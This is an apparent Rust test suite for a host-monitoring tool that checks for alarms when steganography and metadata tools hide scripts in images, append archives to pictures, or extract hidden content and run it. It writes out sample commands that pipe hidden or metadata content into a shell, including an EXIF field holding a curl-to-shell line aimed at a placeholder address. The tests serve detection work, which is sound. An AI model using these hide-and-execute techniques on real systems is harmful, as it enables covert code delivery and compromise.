//! Media files, tools that hide things in them, and what comes out of them and is run (issue 5): found with the real
//! tools. Scripts that take a picture are in `media_scripts`, what leaves in `media_egress`, work in `media_ordinary`.

use counterfoil_tests::daemon::Daemon;
use counterfoil_tests::studio::{Studio, alarm, every, link, links, nothing};
use counterfoil_tests::{Report, check, need, need_pillow, pictures, wait};
use std::time::Duration;

#[test]
fn a_tool_alone() {
    need!("steghide", "outguess", "stegsnow", "binwalk");
    need_pillow!();
    let run = Studio::new().go("steghide embed -q -cf cover.jpg -ef note.txt -p x -sf out.jpg");
    let tool = alarm(&run, "stego-tool", "low", "cover.jpg");
    assert_eq!(links(&tool)[0], "tool");
    assert!(tool.0["process"]["exe"].as_str().is_some_and(|e| e.ends_with("/steghide")));
    let hidden = "steghide embed -q -cf cover.jpg -ef payload.sh -p x -sf in.jpg";
    let run = Studio::new().before(hidden).go("steghide extract -q -sf in.jpg -p x -xf got.txt");
    alarm(&run, "stego-tool", "low", "in.jpg");
    let run = Studio::new()
        .go("outguess -k x -d payload.sh cover.jpg out.jpg 2>/dev/null; binwalk cover.png >/dev/null; \
         stegsnow -C -m hello note.txt out.txt");
    for file in ["cover.jpg", "cover.png", "note.txt"] {
        alarm(&run, "stego-tool", "low", file);
    }
    // Where everybody may put what he likes, under a name that says nothing.
    let run = Studio::new()
        .before("d=$(mktemp -d /dev/shm/XXXXXX); echo $d >where; cp cover.jpg $d/holiday")
        .go("d=$(cat where); steghide info -p x $d/holiday >/dev/null 2>&1 </dev/null || true; rm -r $d");
    alarm(&run, "stego-tool", "low", "holiday");
}

/// Every tool takes out what was hidden, and that is run: one alarm with tool, what came out, and who ran it.
#[test]
fn taken_out_and_run() {
    need!(
        "steghide", "outguess", "stegsnow", "binwalk", "7z", "exiftool", "exiv2", "identify", "bash", "zip"
    );
    need_pillow!();
    let strong = ["tool", "output", "script"];
    let cases = [
        (
            "in.jpg",
            "steghide embed -q -cf cover.jpg -ef payload.sh -p x -sf in.jpg",
            "steghide extract -q -sf in.jpg -p x -xf got.sh; sh got.sh",
            "high",
            &strong[..],
        ),
        (
            "in.jpg",
            "outguess -k x -d payload.sh cover.jpg in.jpg 2>/dev/null",
            "outguess -k x -r in.jpg got 2>/dev/null; bash ./got",
            "high",
            &strong,
        ),
        (
            "in.txt",
            "stegsnow -C -f payload.sh note.txt in.txt",
            "stegsnow -C in.txt got; . ./got",
            "high",
            &strong,
        ),
        ("in.txt", "stegsnow -C -f payload.sh note.txt in.txt", "stegsnow -C in.txt | sh", "high", &strong),
        (
            "in.png",
            "zip -q p.zip payload.sh; cat cover.png p.zip >in.png; rm payload.sh",
            "HOME=$PWD binwalk -q -e --run-as=root in.png >/dev/null; sh _in.png.extracted/payload.sh",
            "critical",
            &["mismatch", "tool", "output", "script"],
        ),
        (
            "in.jpg",
            "exiftool -q '-Comment<=payload.sh' -o in.jpg cover.jpg",
            "exiftool -b -Comment in.jpg | sh",
            "high",
            &strong,
        ),
        (
            "in.jpg",
            "exiftool -q '-Comment<=payload.sh' -o in.jpg cover.jpg",
            "exiftool -b -Comment in.jpg >got; chmod +x got; sh ./got",
            "high",
            &strong,
        ),
        (
            "in.jpg",
            "exiftool -q '-Artist<=payload.sh' -o in.jpg cover.jpg",
            // That the code is the picture's nobody sees: only that the shell got it, and what it started then.
            "bash -c \"$(exiftool -b -Artist in.jpg)\"",
            "medium",
            &["tool", "script"],
        ),
        (
            "in.jpg",
            "cp cover.jpg in.jpg; exiv2 -c 'echo it ran >ran' in.jpg",
            "exiv2 -pc in.jpg | bash",
            "high",
            &strong,
        ),
        (
            "in.png",
            "convert cover.png -set comment 'echo it ran >ran' in.png",
            "identify -format %c in.png | sh",
            "high",
            &strong,
        ),
    ];
    every(cases, |(file, hidden, commands, severity, expected)| {
        let run = Studio::new().before(hidden).go(&format!("{commands}; test -e ran"));
        let ran = alarm(&run, "media-script", severity, file);
        check!(run, links(&ran) == expected, "{commands}: {:?}", links(&ran));
    });
    let run = Studio::new()
        .before("steghide embed -q -cf cover.jpg -ef payload.sh -p x -sf in.jpg")
        .go("steghide extract -q -sf in.jpg -p x -xf got.sh; sh got.sh; test -e ran");
    let ran = alarm(&run, "media-script", "high", "in.jpg");
    assert!(link(&ran, "output")["path"].as_str().is_some_and(|p| p.ends_with("/got.sh")), "{}", ran.0);
    assert!(link(&ran, "script")["runs"].as_str().is_some_and(|p| p.ends_with("/got.sh")), "{}", ran.0);
}

#[test]
fn metadata() {
    need!("exiftool", "exiv2", "convert");
    need_pillow!();
    for command in [
        "exiftool -q '-Comment<=payload.sh' -o out.jpg cover.jpg",
        "exiftool -q -Comment='#!/bin/sh -c id' -o out.jpg cover.jpg",
        "exiftool -q -Artist=\"$(printf %0600d 7)\" cover.jpg",
        "exiv2 -M'set Exif.Image.Artist curl http://192.0.2.1/x|sh' cover.jpg",
        "exiv2 -c 'eval $(id)' cover.jpg",
    ] {
        let run = Studio::new().go(command);
        let tool = alarm(&run, "stego-tool", "low", "cover.jpg");
        check!(run, link(&tool, "tool")["payload"] == true, "{command}: {}", tool.0["evidence"]);
    }
    nothing(&Studio::new().go(
        "exiftool -q -Artist=Ann -o out.jpg cover.jpg; exiv2 -q pr cover.jpg >/dev/null || true; \
         exiftool cover.png >/dev/null; exiv2 -M'set Exif.Image.Artist Ann' cover.jpg; \
         convert cover.png -set comment 'At the lake' lake.png",
    ));
}

#[test]
fn archives_behind_pictures() {
    need!("zip", "unzip", "cat", "tail");
    need_pillow!();
    let zip = "zip -q p.zip payload.sh";
    let run = Studio::new().before(zip).go("cat cover.png p.zip >out.png");
    let behind = alarm(&run, "media-mismatch", "low", "out.png");
    assert_eq!(link(&behind, "mismatch")["behind"]["magic"], "zip");
    // In place.
    let run = Studio::new().before(zip).go("cat p.zip >>cover.png; cat cover.png >/dev/null");
    alarm(&run, "media-mismatch", "low", "cover.png");
    let studio = || Studio::new().before(&format!("{zip}; cat cover.jpg p.zip >in.jpg; rm payload.sh"));
    let run = studio().go("unzip -q in.jpg 2>/dev/null || test $? = 1");
    alarm(&run, "media-mismatch", "low", "in.jpg");
    let run = studio().go("unzip -q in.jpg 2>/dev/null || test $? = 1; sh payload.sh; test -e ran");
    let ran = alarm(&run, "media-script", "high", "in.jpg");
    assert_eq!(links(&ran), ["mismatch", "output", "script"]);
    // A script behind the end, and a program.
    let run = Studio::new()
        .before("cat cover.gif payload.sh payload.sh payload.sh payload.sh payload.sh >in.gif")
        .go("tail -c $(stat -c %s payload.sh) in.gif | sh; test -e ran");
    assert_eq!(links(&alarm(&run, "media-script", "high", "in.gif")), ["mismatch", "output", "script"]);
    let run = Studio::new()
        .before("cat cover.png /bin/true >in.png")
        .go("tail -c $(stat -c %s /bin/true) in.png >got; chmod +x got; ./got");
    let ran = alarm(&run, "media-script", "high", "in.png");
    assert_eq!(links(&ran), ["mismatch", "output", "script"]);
    // Something else under a picture's name, and a picture under another one.
    let run = Studio::new().before("cp cover.png notes.txt").go("cat notes.txt >/dev/null");
    alarm(&run, "media-mismatch", "low", "notes.txt");
    let run = Studio::new().before("cp /bin/true cat.png").go("cat cat.png >/dev/null");
    alarm(&run, "media-mismatch", "low", "cat.png");
}

/// On a host the tools are watched by themselves, whatever they are written in, and the alarm comes while the daemon runs:
/// in a log, too, with what came of the picture.
#[test]
fn on_a_host() {
    need!("steghide", "exiftool");
    need_pillow!();
    let syslog = std::net::UdpSocket::bind(("127.0.0.1", 0)).expect("bind");
    syslog.set_read_timeout(Some(Duration::from_millis(200))).expect("timeout");
    let address = syslog.local_addr().expect("address");
    let mut daemon = Daemon::start(&format!("[[sink]]\nkind = \"syslog\"\naddress = \"udp:{address}\"\n"));
    pictures::make(&daemon.scratch);
    daemon.scratch.write("payload.sh", "echo it ran\n");
    let hide =
        ["steghide", "embed", "-q", "-cf", "cover.jpg", "-ef", "payload.sh", "-p", "x", "-sf", "in.jpg"];
    pictures::run(&daemon.scratch, &hide);
    let here = daemon.scratch.path().canonicalize().expect("scratch");
    let commands = format!(
        "cd {}; steghide embed -q -cf cover.jpg -ef payload.sh -p x -sf out.jpg; \
         /usr/bin/exiftool -q '-Comment<=payload.sh' -o out.png cover.png; \
         steghide extract -q -sf in.jpg -p x -xf got.sh; sh got.sh",
        here.display()
    );
    daemon.observing(&["env", "-u", "BASH_ENV", "sh", "-c", &commands]).go().well();
    let all = |r: &Report| {
        let count = |rule: &str| r.alarms().iter().filter(|a| a.rule() == rule).count();
        count("stego-tool") >= 2 && count("media-script") >= 1
    };
    let patience = Duration::from_secs(60);
    wait::until(patience, daemon.shown("two stego-tool alarms and one that it ran"), || {
        Some(daemon.report()).filter(&all)
    });
    let mut buffer = [0; 4096];
    let line = wait::until(patience, daemon.shown("a line in the log"), || {
        let length = syslog.recv(&mut buffer).ok()?;
        Some(String::from_utf8_lossy(&buffer[..length]).into_owned()).filter(|l| l.contains(" media-script "))
    });
    for words in
        ["in.jpg", "steghide worked on it", "got.sh was made of it", "sh ran got.sh, which came out of it"]
    {
        assert!(line.contains(words), "{words} is not in {line}");
    }
    daemon.stop();
}
